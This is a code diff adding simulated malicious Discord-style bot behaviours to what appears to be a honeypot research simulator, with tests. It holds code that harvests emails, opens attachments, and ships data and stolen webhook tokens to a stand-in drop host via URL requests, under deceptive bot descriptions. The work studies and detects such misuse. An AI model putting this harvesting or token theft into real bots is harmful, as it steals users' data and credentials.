@@ -1,0 +1,404 @@
+//! Malicious / invasive backend behaviours.
+//!
+//! These are the behaviours the honeypot experiment (§4.2) exists to catch:
+//!
+//! * [`ExfiltratorBehavior`] — an automated backend that, on every message
+//!   it can see, harvests URLs, email addresses, and attachments, fetching
+//!   the URLs (and any URLs embedded in documents) from its own server.
+//! * [`SnooperBehavior`] — the "Melonian" case: the developer logs in as
+//!   the bot, skims recent history once, opens what looks interesting, and
+//!   leaves a very human message ("wtf is this bro").
+//!
+//! Both only ever use platform capabilities the bot was legitimately granted
+//! — that is the point: nothing here is an exploit, it is *permitted* access
+//! used against the spirit of Discord's developer policy.
+
+use crate::behavior::{Behavior, BotApi};
+use discord_sim::gateway::GatewayEvent;
+use discord_sim::message::Attachment;
+use discord_sim::GuildId;
+
+/// Extract `http(s)://…` substrings from arbitrary bytes — how a document
+/// preview/open ends up fetching remote resources embedded in metadata.
+pub fn urls_in_bytes(bytes: &[u8]) -> Vec<String> {
+    let text = String::from_utf8_lossy(bytes);
+    let mut out = Vec::new();
+    for scheme in ["https://", "http://"] {
+        let mut offset = 0;
+        while let Some(pos) = text[offset..].find(scheme) {
+            let abs = offset + pos;
+            let tail = &text[abs..];
+            let end = tail
+                .find(|c: char| c.is_whitespace() || c == '"' || c == '\'' || c == '>' || c == ')')
+                .unwrap_or(tail.len());
+            out.push(tail[..end].to_string());
+            offset = abs + end.max(1);
+        }
+    }
+    out.sort();
+    out.dedup();
+    out
+}
+
+/// An automated data-harvesting backend.
+pub struct ExfiltratorBehavior {
+    /// Where the harvest is shipped (the developer's collection endpoint,
+    /// if mounted; failures are ignored, as a real exfiltrator would).
+    pub drop_host: Option<String>,
+    /// Whether harvested email addresses are *used* (spammed) — the
+    /// behaviour an email canary token detects. The spam is modeled as a
+    /// delivery request to the address's mail host.
+    pub spams_harvested_emails: bool,
+    /// URLs fetched so far.
+    pub fetched_urls: Vec<String>,
+    /// Emails harvested so far.
+    pub harvested_emails: Vec<String>,
+    /// Attachments opened so far (filenames).
+    pub opened_attachments: Vec<String>,
+}
+
+impl ExfiltratorBehavior {
+    /// A fresh exfiltrator; pass a drop host to also ship the harvest out.
+    pub fn new(drop_host: Option<&str>) -> ExfiltratorBehavior {
+        ExfiltratorBehavior {
+            drop_host: drop_host.map(str::to_string),
+            spams_harvested_emails: false,
+            fetched_urls: Vec::new(),
+            harvested_emails: Vec::new(),
+            opened_attachments: Vec::new(),
+        }
+    }
+
+    /// Enable spamming of harvested addresses.
+    pub fn spamming(mut self) -> ExfiltratorBehavior {
+        self.spams_harvested_emails = true;
+        self
+    }
+
+    fn open_attachment(&mut self, att: &Attachment, api: &mut BotApi) {
+        self.opened_attachments.push(att.filename.clone());
+        // "Opening" a document triggers any remote resources referenced in
+        // its metadata — exactly how canary documents phone home.
+        for url in urls_in_bytes(&att.bytes) {
+            if api.fetch_url(&url).is_ok() {
+                self.fetched_urls.push(url);
+            }
+        }
+    }
+
+    fn ship_out(&mut self, api: &mut BotApi, what: &str) {
+        if let Some(host) = &self.drop_host {
+            let _ = api.fetch_url(&format!("https://{host}/drop?data={what}"));
+        }
+    }
+}
+
+impl Behavior for ExfiltratorBehavior {
+    fn on_event(&mut self, event: &GatewayEvent, api: &mut BotApi) {
+        let GatewayEvent::MessageCreate { message, .. } = event else { return };
+        if message.author == api.bot_id() {
+            return;
+        }
+        for url in message.urls() {
+            if api.fetch_url(url).is_ok() {
+                self.fetched_urls.push(url.to_string());
+            }
+        }
+        for email in message.emails() {
+            let email = email.to_string();
+            self.harvested_emails.push(email.clone());
+            self.ship_out(api, &email);
+            if self.spams_harvested_emails {
+                // "Using" the address: deliver mail to its host, which is
+                // exactly the signal an email canary produces.
+                if let Some((local, domain)) = email.split_once('@') {
+                    let _ = api.fetch_url(&format!("https://{domain}/mail/{local}"));
+                }
+            }
+        }
+        let attachments: Vec<Attachment> = message.attachments.clone();
+        for att in &attachments {
+            self.open_attachment(att, api);
+        }
+    }
+
+    fn description(&self) -> String {
+        "A totally normal utility bot.".to_string()
+    }
+}
+
+/// The manual, one-shot developer snoop (Melonian).
+///
+/// Dormant until it has seen `trigger_after` messages in a guild; then the
+/// "developer logs in", reads the channel history once, opens documents and
+/// links, and posts a human aside. Never triggers again in that guild.
+pub struct SnooperBehavior {
+    /// Messages observed per guild before curiosity wins.
+    pub trigger_after: usize,
+    /// What the developer blurts out after seeing the content.
+    pub aside: String,
+    seen: std::collections::BTreeMap<GuildId, usize>,
+    snooped: std::collections::BTreeSet<GuildId>,
+    /// URLs fetched during snoops.
+    pub fetched_urls: Vec<String>,
+    /// Attachments opened during snoops (filenames).
+    pub opened_attachments: Vec<String>,
+}
+
+impl SnooperBehavior {
+    /// A snooper modeled on the paper's observation.
+    pub fn new(trigger_after: usize) -> SnooperBehavior {
+        SnooperBehavior {
+            trigger_after,
+            aside: "wtf is this bro".to_string(),
+            seen: Default::default(),
+            snooped: Default::default(),
+            fetched_urls: Vec::new(),
+            opened_attachments: Vec::new(),
+        }
+    }
+}
+
+impl Behavior for SnooperBehavior {
+    fn on_event(&mut self, event: &GatewayEvent, api: &mut BotApi) {
+        let GatewayEvent::MessageCreate { guild, message } = event else { return };
+        if message.author == api.bot_id() {
+            return;
+        }
+        let count = self.seen.entry(*guild).or_insert(0);
+        *count += 1;
+        if *count < self.trigger_after || self.snooped.contains(guild) {
+            return;
+        }
+        self.snooped.insert(*guild);
+
+        // The developer skims the channel as the bot.
+        let Ok(history) = api.read_history(message.channel) else { return };
+        for msg in &history {
+            for url in msg.urls() {
+                if api.fetch_url(url).is_ok() {
+                    self.fetched_urls.push(url.to_string());
+                }
+            }
+            for att in &msg.attachments {
+                self.opened_attachments.push(att.filename.clone());
+                for url in urls_in_bytes(&att.bytes) {
+                    if api.fetch_url(&url).is_ok() {
+                        self.fetched_urls.push(url);
+                    }
+                }
+            }
+        }
+        // The human tell.
+        let _ = api.send(message.channel, &self.aside);
+    }
+
+    fn description(&self) -> String {
+        "Fun commands and memes!".to_string()
+    }
+}
+
+/// The "Spidey Bot" pattern the paper cites (\[54\]): a bot holding
+/// `MANAGE_WEBHOOKS` quietly enumerates channel webhooks and ships the
+/// tokens to the developer's server. Anyone holding a token can post into
+/// the channel forever after — no account required.
+pub struct WebhookThiefBehavior {
+    /// Where stolen tokens are shipped.
+    pub drop_host: String,
+    /// Tokens stolen so far.
+    pub stolen_tokens: Vec<String>,
+    seen_channels: std::collections::BTreeSet<discord_sim::ChannelId>,
+}
+
+impl WebhookThiefBehavior {
+    /// A thief shipping to `drop_host`.
+    pub fn new(drop_host: &str) -> WebhookThiefBehavior {
+        WebhookThiefBehavior {
+            drop_host: drop_host.to_string(),
+            stolen_tokens: Vec::new(),
+            seen_channels: Default::default(),
+        }
+    }
+}
+
+impl Behavior for WebhookThiefBehavior {
+    fn on_event(&mut self, event: &GatewayEvent, api: &mut BotApi) {
+        let GatewayEvent::MessageCreate { message, .. } = event else { return };
+        if message.author == api.bot_id() || self.seen_channels.contains(&message.channel) {
+            return;
+        }
+        self.seen_channels.insert(message.channel);
+        let Ok(hooks) = api.list_webhooks(message.channel) else { return };
+        for hook in hooks {
+            self.stolen_tokens.push(hook.token.clone());
+            let drop = self.drop_host.clone();
+            let _ = api.fetch_url(&format!("https://{drop}/drop?hook={}&token={}", hook.id, hook.token));
+        }
+    }
+
+    fn description(&self) -> String {
+        "Server utilities and integrations.".to_string()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use discord_sim::oauth::InviteUrl;
+    use discord_sim::{GuildVisibility, Permissions, Platform, UserId};
+    use netsim::clock::VirtualClock;
+    use netsim::http::{Request, Response};
+    use netsim::{Network, ServiceCtx};
+
+    struct World {
+        platform: Platform,
+        net: Network,
+        owner: UserId,
+        alice: UserId,
+        guild: discord_sim::GuildId,
+        channel: discord_sim::ChannelId,
+        bot: UserId,
+    }
+
+    fn world(perms: Permissions) -> World {
+        let clock = VirtualClock::new();
+        let net = Network::with_clock(1, clock.clone());
+        net.mount("canary.sink", |req: &Request, _ctx: &mut ServiceCtx<'_>| {
+            Response::ok(format!("signal {}", req.url.path))
+        });
+        net.mount("drop.zone", |_req: &Request, _ctx: &mut ServiceCtx<'_>| Response::ok("ok"));
+        let platform = Platform::new(clock);
+        let owner = platform.register_user("owner", "o@x.y");
+        let alice = platform.register_user("alice", "a@x.y");
+        let guild = platform.create_guild(owner, "g", GuildVisibility::Public).unwrap();
+        platform.join_guild(alice, guild, None).unwrap();
+        let channel = platform.default_channel(guild).unwrap();
+        let app = platform.register_bot_application(owner, "Shady").unwrap();
+        let bot = platform.install_bot(owner, guild, &InviteUrl::bot(app.client_id, perms), true).unwrap();
+        World { platform, net, owner, alice, guild, channel, bot }
+    }
+
+    fn deliver(w: &World, behavior: &mut dyn Behavior, author: UserId, content: &str, atts: Vec<Attachment>) {
+        let id = w.platform.send_message(author, w.channel, content, atts).unwrap();
+        let history = w.platform.read_history(w.owner, w.channel).unwrap();
+        let message = history.iter().find(|m| m.id == id).unwrap().clone();
+        let mut api = BotApi::new(w.platform.clone(), w.net.clone(), w.bot, "shady");
+        behavior.on_event(&GatewayEvent::MessageCreate { guild: w.guild, message }, &mut api);
+    }
+
+    #[test]
+    fn urls_in_bytes_finds_embedded_links() {
+        let doc = b"PK\x03\x04 docProps https://canary.sink/t/abc123 more <a href=\"http://x.y/z\">";
+        let urls = urls_in_bytes(doc);
+        assert_eq!(urls, vec!["http://x.y/z", "https://canary.sink/t/abc123"]);
+        assert!(urls_in_bytes(b"no links").is_empty());
+    }
+
+    #[test]
+    fn exfiltrator_fetches_posted_urls() {
+        let w = world(Permissions::SEND_MESSAGES | Permissions::VIEW_CHANNEL);
+        let mut x = ExfiltratorBehavior::new(None);
+        deliver(&w, &mut x, w.alice, "see https://canary.sink/t/tok1 ok", vec![]);
+        assert_eq!(x.fetched_urls, vec!["https://canary.sink/t/tok1"]);
+        w.net.with_trace(|t| assert_eq!(t.matching_url("canary.sink").len(), 1));
+    }
+
+    #[test]
+    fn exfiltrator_opens_attachments_and_triggers_doc_tokens() {
+        let w = world(Permissions::SEND_MESSAGES | Permissions::VIEW_CHANNEL);
+        let mut x = ExfiltratorBehavior::new(None);
+        let doc = Attachment::new(
+            "budget.docx",
+            "application/vnd.word",
+            b"fake-docx-metadata https://canary.sink/t/doc42 end".to_vec(),
+        );
+        deliver(&w, &mut x, w.alice, "quarterly numbers attached", vec![doc]);
+        assert_eq!(x.opened_attachments, vec!["budget.docx"]);
+        assert_eq!(x.fetched_urls, vec!["https://canary.sink/t/doc42"]);
+    }
+
+    #[test]
+    fn exfiltrator_ships_emails_to_drop_host() {
+        let w = world(Permissions::SEND_MESSAGES | Permissions::VIEW_CHANNEL);
+        let mut x = ExfiltratorBehavior::new(Some("drop.zone"));
+        deliver(&w, &mut x, w.alice, "contact cfo@megacorp.example for the docs", vec![]);
+        assert_eq!(x.harvested_emails, vec!["cfo@megacorp.example"]);
+        w.net.with_trace(|t| {
+            let drops = t.matching_url("drop.zone");
+            assert_eq!(drops.len(), 1);
+            assert!(drops[0].url.contains("cfo%40megacorp.example") || drops[0].url.contains("cfo@megacorp.example"));
+        });
+    }
+
+    #[test]
+    fn webhook_thief_exfiltrates_tokens_visible_on_the_wire() {
+        let w = world(
+            Permissions::SEND_MESSAGES | Permissions::VIEW_CHANNEL | Permissions::MANAGE_WEBHOOKS,
+        );
+        // The guild owner set up a legitimate webhook earlier.
+        let hook = w.platform.create_webhook(w.owner, w.channel, "ci-updates").unwrap();
+        let mut thief = WebhookThiefBehavior::new("drop.zone");
+        deliver(&w, &mut thief, w.alice, "ordinary chatter", vec![]);
+        assert_eq!(thief.stolen_tokens, vec![hook.token.clone()]);
+        // The theft leaves a network trace carrying the token — the tap a
+        // defender (or our honeypot) can watch.
+        w.net.with_trace(|t| {
+            let drops = t.matching_url("drop.zone");
+            assert_eq!(drops.len(), 1);
+            assert!(drops[0].url.contains(&hook.token));
+        });
+        // One-shot per channel: more chatter does not re-steal.
+        deliver(&w, &mut thief, w.alice, "more chatter", vec![]);
+        assert_eq!(thief.stolen_tokens.len(), 1);
+    }
+
+    #[test]
+    fn webhook_thief_without_permission_steals_nothing() {
+        let w = world(Permissions::SEND_MESSAGES | Permissions::VIEW_CHANNEL);
+        w.platform.create_webhook(w.owner, w.channel, "ci").unwrap();
+        let mut thief = WebhookThiefBehavior::new("drop.zone");
+        deliver(&w, &mut thief, w.alice, "hello", vec![]);
+        assert!(thief.stolen_tokens.is_empty(), "MANAGE_WEBHOOKS gate held");
+        w.net.with_trace(|t| assert!(t.matching_url("drop.zone").is_empty()));
+    }
+
+    #[test]
+    fn snooper_stays_dormant_then_snoops_once() {
+        let w = world(
+            Permissions::SEND_MESSAGES
+                | Permissions::VIEW_CHANNEL
+                | Permissions::READ_MESSAGE_HISTORY,
+        );
+        let mut s = SnooperBehavior::new(3);
+        let doc = Attachment::new("notes.docx", "application/vnd.word", b"https://canary.sink/t/snoop7".to_vec());
+        deliver(&w, &mut s, w.alice, "first https://canary.sink/t/early", vec![doc]);
+        assert!(s.fetched_urls.is_empty(), "dormant below threshold");
+        deliver(&w, &mut s, w.alice, "second message", vec![]);
+        assert!(s.fetched_urls.is_empty());
+        // Third message crosses the threshold → one full snoop of history.
+        deliver(&w, &mut s, w.alice, "third message", vec![]);
+        assert!(s.fetched_urls.contains(&"https://canary.sink/t/early".to_string()));
+        assert!(s.fetched_urls.contains(&"https://canary.sink/t/snoop7".to_string()));
+        assert_eq!(s.opened_attachments, vec!["notes.docx"]);
+        // The human aside was posted by the bot account.
+        let last = w.platform.read_history(w.owner, w.channel).unwrap().pop().unwrap();
+        assert_eq!(last.content, "wtf is this bro");
+        assert_eq!(last.author, w.bot);
+        // Further messages do not re-trigger.
+        let before = s.fetched_urls.len();
+        deliver(&w, &mut s, w.alice, "fourth https://canary.sink/t/later", vec![]);
+        assert_eq!(s.fetched_urls.len(), before);
+    }
+
+    #[test]
+    fn snooper_without_history_permission_cannot_snoop() {
+        let w = world(Permissions::SEND_MESSAGES);
+        // Strip READ_MESSAGE_HISTORY from @everyone so the bot truly lacks it.
+        let everyone = w.platform.guild(w.guild).unwrap().everyone_role;
+        let stripped = Permissions::everyone_defaults().difference(Permissions::READ_MESSAGE_HISTORY);
+        w.platform.edit_role(w.owner, w.guild, everyone, stripped).unwrap();
+        let mut s = SnooperBehavior::new(1);
+        deliver(&w, &mut s, w.alice, "https://canary.sink/t/guarded", vec![]);
+        assert!(s.fetched_urls.is_empty(), "no READ_MESSAGE_HISTORY → no snoop");
+    }
+}
